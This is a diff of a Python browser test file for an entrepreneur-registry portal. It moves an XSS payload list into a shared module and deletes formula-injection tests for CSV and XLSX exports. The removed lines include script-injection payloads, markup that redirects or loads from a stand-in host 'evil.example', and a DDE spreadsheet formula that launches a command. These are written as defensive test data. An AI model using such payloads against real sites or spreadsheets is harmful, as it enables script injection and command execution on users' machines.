@@ -4,16 +4,12 @@ Each payload carries ``data-injected``: an element with it in a page means that 
 policy of the pages would stop most scripts even then, and says so on the console, which fails the test too.
 """
 
-import csv
-import io
 from collections.abc import Iterator
 
 import pytest
-from openpyxl import load_workbook
 from playwright.sync_api import Page
 from sqlalchemy.orm import Session
 
-from portal.cards.models import Card
 from portal.core.roles import Role
 from portal.entrepreneurs.actions.naming import index_name
 from portal.entrepreneurs.models import (
@@ -24,52 +20,15 @@ from portal.entrepreneurs.models import (
     RejectionReason,
     State,
 )
-from portal.registry.tables import write_table
 from tests.browser.people import enter
 from tests.chromium import DESKTOP, Live
 from tests.factories import accounts
 from tests.factories import entrepreneurs as factories
 from tests.factories.entrepreneurs import NOW
+from tests.promises.payloads import MARK, PAYLOADS
 
 pytestmark = [pytest.mark.promise]
 
-MARK = "data-injected"
-PAYLOADS = [
-    f"<script {MARK}>alert(1)</script>",
-    f"</title><script {MARK}>alert(1)</script>",
-    f"<img {MARK} src=x onerror=alert(1)>",
-    f"<svg {MARK} onload=alert(1)>",
-    f'"><b {MARK}>x</b>',
-    f"'><b {MARK}>x</b>",
-    f"' {MARK} autofocus onfocus=alert(1) x='",
-    f'" {MARK} autofocus onfocus=alert(1) x="',
-    f"</textarea><b {MARK}>x</b>",
-    f"</option></select><b {MARK}>x</b>",
-    f"<!--><b {MARK}>x</b>-->",
-    f"--><b {MARK}>x</b>",
-    f"]]><b {MARK}>x</b>",
-    f"<iframe {MARK} srcdoc='<script>alert(1)</script>'>",
-    f"<a {MARK} href=javascript:alert(1)>x</a>",
-    f"<form {MARK} action=//evil.example><input name=q>",
-    f"<base {MARK} href=//evil.example/>",
-    f"<meta {MARK} http-equiv=refresh content=0;url=//evil.example>",
-    f"<style {MARK}>*{{display:none}}</style>",
-    f"<link {MARK} rel=stylesheet href=//evil.example/x.css>",
-    f"&lt;b {MARK}&gt;x&lt;/b&gt;",
-    f"%3Cb {MARK}%3Ex%3C/b%3E",
-    f"\\u003cb {MARK}\\u003ex",
-    f"＜script {MARK}＞alert(1)＜/script＞",
-    f"{{{{ 7 * 7 }}}}<b {MARK}>",
-    f"{{% raw %}}<b {MARK}>",
-    f"${{7*7}}<b {MARK}>",
-    f"<math><mtext {MARK}></mtext></math>",
-    f"<details {MARK} open ontoggle=alert(1)>",
-    f"<template {MARK}><script>alert(1)</script></template>",
-]
-FORMULAS = [
-    "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"//evil.example\")", "=cmd|' /C calc'!A0",
-    "＝1+1", "＋1", "'=1+1", "=IMPORTXML(1)",
-]  # fmt: skip
 TEXTS = (
     "given_name", "first_surname", "second_surname", "printed_name", "curp_missing_reason", "supermanzana",
     "manzana", "lote", "street", "colonia", "postal_code", "business_name", "products", "social_links",
@@ -182,43 +141,3 @@ def office(live: Live, new_context, role: Role) -> Page:
     page: Page = context.new_page()
     page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
     return page
-
-
-def runs(cell: str) -> bool:
-    """Tell whether a spreadsheet program would run the text of a CSV cell."""
-    return cell.lstrip("\t\r ")[:1] in {"=", "+", "-", "@", "＝", "＋", "－", "＠"}
-
-
-def exported(session: Session, kind: str) -> bytes:
-    rows: list[tuple[Application, Card | None]] = []
-    for text in FORMULAS:
-        row = factories.application(session, **dict.fromkeys(TEXTS, text), giro_id=None)
-        rows.append((row, None))
-    file = io.BytesIO()
-    assert write_table(file, rows, kind=kind, with_contact=True) == len(FORMULAS)
-    return file.getvalue()
-
-
-@pytest.mark.sqlite_only
-def test_no_cell_of_a_csv_runs(session: Session):
-    table = csv.reader(io.StringIO(exported(session, "csv").decode("utf-8-sig")))
-
-    assert not [cell for row in table for cell in row if runs(cell)]
-
-
-@pytest.mark.sqlite_only
-def test_no_cell_of_an_xlsx_is_a_formula_or_a_link(session: Session):
-    book = load_workbook(io.BytesIO(exported(session, "xlsx")))
-    cells = [cell for row in book.active.iter_rows() for cell in row]
-
-    assert {cell.data_type for cell in cells} <= {"s", "n"}
-    assert not [cell for cell in cells if cell.hyperlink]
-    assert {"=1+1", "=IMPORTXML(1)"} <= {cell.value for cell in cells}
-
-
-def test_control_a_plain_csv_would_run():
-    file = io.StringIO()
-    csv.writer(file).writerow(FORMULAS)
-    file.seek(0)
-
-    assert [cell for row in csv.reader(file) for cell in row if runs(cell)]
